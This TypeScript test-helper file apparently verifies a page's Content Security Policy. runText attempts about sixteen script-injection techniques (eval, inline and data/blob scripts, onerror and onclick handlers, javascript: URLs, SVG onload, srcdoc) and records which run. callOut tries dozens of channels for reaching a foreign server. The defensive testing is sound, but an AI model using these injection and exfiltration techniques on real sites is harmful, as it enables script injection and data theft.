// Attacks that run inside the page, as injected code would: outside the debugger's own stack, which the policy spares.
// Each is a function for `page.evaluate`; it may not refer to anything outside itself.

/** Ways to run text as code. Resolves to the names of those that worked. */
export const runText = (): Promise<readonly string[]> =>
  new Promise((resolve) => {
    setTimeout(() => {
      const ran: string[] = [];
      const marks = window as unknown as Record<string, () => void>;
      const mark = (name: string): string => {
        marks[`__pwned_${name}`] = () => ran.push(name);
        return `window.__pwned_${name}()`;
      };
      const attempt = (attack: () => void): void => {
        try {
          attack();
        } catch (error) {
          // Refused by throwing is as good as refused silently: what counts is `ran`.
          void error;
        }
      };
      const addScript = (fill: (script: HTMLScriptElement) => void): void => {
        attempt(() => {
          const script = document.createElement('script');
          fill(script);
          document.head.append(script);
        });
      };
      // oxlint-disable-next-line no-eval -- the attack itself
      attempt(() => (0, eval)(mark('eval')));
      // oxlint-disable-next-line typescript/no-implied-eval -- the attack itself
      attempt(() => new Function(mark('function'))());
      attempt(() => setTimeout(mark('timeout') as unknown as () => void));
      addScript((script) => {
        script.textContent = mark('inline');
      });
      addScript((script) => script.append(mark('inline_node')));
      addScript((script) => script.setAttribute('src', `data:text/javascript,${mark('data')}`));
      addScript((script) => {
        const blob = new Blob([mark('blob')], { type: 'text/javascript' });
        script.setAttribute('src', URL.createObjectURL(blob));
      });
      addScript((script) => {
        script.type = 'module';
        script.textContent = mark('module');
      });
      attempt(() => {
        const button = document.createElement('button');
        button.setAttribute('onclick', mark('handler'));
        document.body.append(button);
        button.click();
      });
      attempt(() => {
        const div = document.createElement('div');
        div.innerHTML = `<img src="x" onerror="${mark('html')}">`;
        document.body.append(div);
      });
      attempt(() => document.write(`<script>${mark('write')}</script>`));
      attempt(() => {
        const link = document.createElement('a');
        link.href = `javascript:${mark('href')}`;
        document.body.append(link);
        link.click();
      });
      attempt(() => {
        const svg = new DOMParser().parseFromString(
          `<svg xmlns="http://www.w3.org/2000/svg" onload="${mark('svg')}"/>`,
          'image/svg+xml',
        );
        document.body.append(document.importNode(svg.documentElement, true));
      });
      attempt(() => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        worker.addEventListener('message', () => ran.push('worker'));
      });
      attempt(() => {
        const frame = document.createElement('iframe');
        frame.setAttribute('srcdoc', `<script>parent.${mark('srcdoc')}</script>`);
        document.body.append(frame);
      });
      attempt(() => {
        void import(`data:text/javascript,${mark('import')}`).catch(() => {});
      });
      // Long enough for what loads asynchronously; nothing is awaited, since nothing may come.
      setTimeout(() => resolve(ran), 500);
    });
  });

/** Ways to talk to a foreign server. Resolves when each had its chance. */
export const callOut = (address: string): Promise<void> =>
  new Promise((resolve) => {
    setTimeout(() => {
      const http = `http://${address}`;
      const attempt = (attack: () => unknown): void => {
        try {
          const outcome = attack();
          if (outcome instanceof Promise) outcome.catch(() => {});
        } catch (error) {
          // The server is the witness, not the exception.
          void error;
        }
      };
      const add = (tag: string, attributes: Record<string, string>): void =>
        attempt(() => {
          const element = document.createElement(tag);
          for (const [name, value] of Object.entries(attributes)) attempt(() => element.setAttribute(name, value));
          document.body.append(element);
        });
      attempt(() => fetch(`${http}/fetch`, { mode: 'no-cors' }));
      attempt(() => fetch(`${http}/keepalive`, { method: 'POST', keepalive: true, mode: 'no-cors', body: 'x' }));
      attempt(() => {
        const request = new XMLHttpRequest();
        request.open('GET', `${http}/xhr`);
        request.send();
      });
      attempt(() => navigator.sendBeacon(`${http}/beacon`, 'x'));
      attempt(() => new WebSocket(`ws://${address}/socket`));
      attempt(() => new EventSource(`${http}/events`));
      attempt(() => new Worker(`${http}/worker.js`));
      attempt(() => new SharedWorker(`${http}/shared.js`));
      attempt(() => navigator.serviceWorker?.register(`${http}/service.js`));
      add('script', { src: `${http}/script.js` });
      add('img', { src: `${http}/img.png` });
      add('img', { srcset: `${http}/srcset.png 1x` });
      add('video', { src: `${http}/video.mp4`, autoplay: '' });
      add('audio', { src: `${http}/audio.mp3`, autoplay: '' });
      add('iframe', { src: `${http}/frame` });
      add('object', { data: `${http}/object` });
      add('embed', { src: `${http}/embed` });
      for (const rel of ['stylesheet', 'icon', 'prefetch', 'manifest', 'modulepreload'])
        add('link', { rel, href: `${http}/${rel}` });
      add('link', { rel: 'preload', as: 'image', href: `${http}/preload` });
      add('div', { style: `background: url(${http}/style-attribute)` });
      attempt(() => {
        const style = document.createElement('style');
        style.textContent = `body { background: url(${http}/style-element) } @import url(${http}/import.css);`;
        document.head.append(style);
      });
      attempt(() => {
        // The object model may change styles, but what a style loads is still held to the policy.
        document.body.style.backgroundImage = `url(${http}/cssom)`;
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(
          `html { background: url(${http}/adopted) } @font-face { font-family: f; src: url(${http}/font) } body { font-family: f }`,
        );
        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      });
      attempt(() => {
        const form = document.createElement('form');
        form.action = `${http}/form`;
        form.method = 'post';
        form.target = '_blank';
        document.body.append(form);
        form.submit();
      });
      setTimeout(resolve, 500);
    });
  });
